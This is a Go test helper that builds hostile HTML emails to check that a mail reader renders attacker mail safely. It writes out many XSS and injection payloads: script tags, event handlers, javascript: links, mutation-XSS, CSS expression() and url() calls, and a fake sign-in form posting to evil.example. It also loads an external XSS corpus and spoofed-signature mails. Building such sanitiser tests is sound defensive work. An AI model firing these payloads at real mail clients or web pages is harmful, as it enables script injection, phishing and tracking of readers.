package hostilemail

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// A mail of an attacker, and what it is called in a report.
type attack struct{ name, raw string }

// own are attacks made for this desk: each tries to leave its frame, to run, or
// to have the reader's browser ask another server.
var own = []string{
	`<script>top.pwned=1;alert(1)</script><img src=x onerror="top.pwned=1;alert(1)"><svg onload="top.pwned=1"><animate onbegin="top.pwned=1" attributeName=x dur=1s></svg>`,
	`<div style="position:fixed;inset:0;z-index:2147483647;background:#ff00ff">Sign in again</div>`,
	`<div style="position:absolute;top:-4000px;left:-4000px;width:9000px;height:9000px;background:#ff00ff">all over</div>`,
	`<table width="100000" height="100000" bgcolor="#ff00ff"><tr><td style="background:#ff00ff">huge</td></tr></table>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/meta"><base href="https://evil.example/"><a href="next" id="x">relative</a>`,
	`<link rel="stylesheet" href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css);body{background:url(https://evil.example/c.png)}@font-face{font-family:x;src:url(https://evil.example/f.woff)}*{font-family:x}</style>`,
	`<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x"><picture><source srcset="https://evil.example/s.webp"><img src="//evil.example/p.gif"></picture><video src="https://evil.example/v.mp4" poster="https://evil.example/p.jpg" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>`,
	`<iframe src="https://evil.example/frame" srcdoc="<script>top.pwned=1</script>"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf"><portal src="https://evil.example/portal"></portal>`,
	`<form action="https://evil.example/post" method="post" target="_top"><input name="password" autofocus onfocus="top.pwned=1"><button formaction="javascript:top.pwned=1">Sign in</button></form><isindex action="javascript:top.pwned=1">`,
	`<a href="javascript:top.pwned=1" target="_top" style="position:fixed;inset:0;display:block">everywhere</a><a href="data:text/html,<script>top.pwned=1</script>">data</a><area href="javascript:top.pwned=1" shape="default">`,
	`<svg><use href="https://evil.example/u.svg#x"></use><image href="https://evil.example/i.png"></image><foreignObject><iframe src="https://evil.example/fo"></iframe></foreignObject><script href="https://evil.example/s.js"></script></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;"></mtext></math>`,
	`<div style="background-image:image-set('https://evil.example/1.png' 1x);list-style:url(https://evil.example/l.png);cursor:url(https://evil.example/c.cur),auto;content:url(https://evil.example/k.png);mask:url(https://evil.example/m.svg);filter:url(https://evil.example/f.svg#f);width:expression(top.pwned=1);behavior:url(https://evil.example/b.htc);-moz-binding:url(https://evil.example/x.xml)">css</div>`,
	`<div style="background:u\72l(https://evil.example/esc.png)">escapes</div><div style="background:url('https://evil.example/q.png'">open</div><p style='x:"</style><img src=https://evil.example/brk onerror=top.pwned=1>"'>`,
	`<div id="composer"><form id="composer" name="htmx"><input name="body"></form></div><div hx-get="/me" hx-trigger="load" data-act="send" data-key="j">clobber</div><img name="getElementById"><a id="htmx" href="x"></a>`,
	`<dialog open style="position:fixed;inset:0;background:#ff00ff">dialog</dialog><div popover id="p" style="background:#ff00ff">pop</div><button popovertarget="p">open</button><details open ontoggle="top.pwned=1">x</details>`,
	`<marquee onstart="top.pwned=1">m</marquee><body onload="top.pwned=1" onpageshow="top.pwned=1" background="https://evil.example/body.png"><frameset onload="top.pwned=1"><keygen autofocus onfocus="top.pwned=1"><plaintext>`,
	`<link rel="preconnect" href="https://evil.example"><link rel="dns-prefetch" href="//evil.example"><link rel="prefetch" href="https://evil.example/pre"><link rel="icon" href="https://evil.example/favicon.ico"><script src="//evil.example/x.js" nonce></script><script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/spec"]}]}</script>`,
}

// closers end whatever a payload may have left open, so that it hides none that
// follows it.
const closers = `"'>--></script></style></textarea></title></noscript></xmp></iframe></select></svg></math></div>`

// word is an encoded word: a header may say anything.
func word(s string) string { return "=?utf-8?B?" + base64.StdEncoding.EncodeToString([]byte(s)) + "?=" }

// mailOf is an HTML mail whose subject and sender are payloads too.
func mailOf(n int, subject, html string) string {
	subject = strings.Join(strings.Fields(subject), " ")
	if len(subject) > 300 {
		subject = subject[:300]
	}
	return fmt.Sprintf("From: %s <a%d@attacker.example>\r\nTo: care@kettle.example\r\nSubject: %s\r\nMessage-ID: <h%d@attacker.example>\r\nDate: Thu, 26 Nov 2026 09:00:00 +0000\r\n"+
		"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n",
		word(subject[:min(60, len(subject))]), n, word(fmt.Sprintf("Attack %03d %s", n, subject)), n, base64In(html))
}

func base64In(s string) string {
	var b strings.Builder
	for part := range slices.Chunk([]byte(base64.StdEncoding.EncodeToString([]byte(s))), 76) {
		b.Write(part)
		b.WriteString("\r\n")
	}
	return b.String()
}

// attacks are all mails that are filed: ours, and those of the corpus if it is
// there. In a short run one of eight of the long lists is.
func attacks(t *testing.T) (all []attack) {
	t.Helper()
	add := func(name, subject, html string) {
		all = append(all, attack{name, mailOf(len(all)+1, subject, "<html><body><p>Hello.</p>"+html+"</body></html>")})
	}
	for i, html := range own {
		add(fmt.Sprintf("own %d", i+1), html, html)
	}
	dir := corpus()
	if dir == "" {
		t.Log("!!! SKIPPED, only our own attacks were tried: the attack corpus (shared/data/attacks) is not there")
		return all
	}
	for _, file := range list(t, filepath.Join(dir, "xss", "*.txt")) {
		lines := strings.Split(strings.ReplaceAll(read(t, file), "\r", ""), "\n")
		n := 0
		for part := range slices.Chunk(lines, 60) {
			if n++; testing.Short() && n%8 != 1 {
				continue
			}
			add(fmt.Sprintf("%s part %d", filepath.Base(file), n), part[0], "<div>"+strings.Join(part, closers+"\n<div>")+closers)
		}
	}
	var purify struct {
		Cases []struct{ Payload string }
	}
	if err := json.Unmarshal([]byte(read(t, filepath.Join(dir, "xss", "dompurify.json"))), &purify); err != nil {
		t.Fatal(err)
	}
	n := 0
	for part := range slices.Chunk(purify.Cases, 8) {
		html := ""
		for _, c := range part {
			html += "<div>" + c.Payload + closers + "\n"
		}
		if n++; !testing.Short() || n%4 == 1 {
			add(fmt.Sprintf("dompurify part %d", n), part[0].Payload, html)
		}
	}
	for _, file := range list(t, filepath.Join(dir, "signature-spoof", "*.eml")) {
		all = append(all, attack{filepath.Base(file), read(t, file)})
	}
	var parts strings.Builder
	for _, file := range list(t, filepath.Join(dir, "attachments", "*")) {
		kind := "image/svg+xml"
		if !strings.HasSuffix(file, ".svg") {
			kind = "text/html"
		}
		fmt.Fprintf(&parts, "--b\r\nContent-Type: %s\r\nContent-Disposition: inline; filename=%q\r\nContent-ID: <%s>\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n",
			kind, filepath.Base(file), filepath.Base(file), base64In(read(t, file)))
	}
	return append(all, attack{"attachments", "From: Files <files@attacker.example>\r\nTo: care@kettle.example\r\nSubject: Attack files\r\nMessage-ID: <files@attacker.example>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>See <img src=\"cid:SVG_XSS_red_lightning.svg\"><img src=\"cid:xss.htm\"></p>\r\n" + parts.String() + "--b--\r\n"})
}

func read(t *testing.T, file string) string {
	t.Helper()
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func list(t *testing.T, pattern string) []string {
	t.Helper()
	all, err := filepath.Glob(pattern)
	if err != nil || len(all) == 0 {
		t.Fatalf("%s: %v, %v", pattern, all, err)
	}
	return all
}

// corpus is the folder of attacks beside the project or above it; "" for none.
func corpus() string {
	dir, _ := os.Getwd()
	for {
		at := filepath.Join(dir, "shared", "data", "attacks")
		if _, err := os.Stat(at); err == nil {
			return at
		}
		up := filepath.Dir(dir)
		if up == dir {
			return ""
		}
		dir = up
	}
}
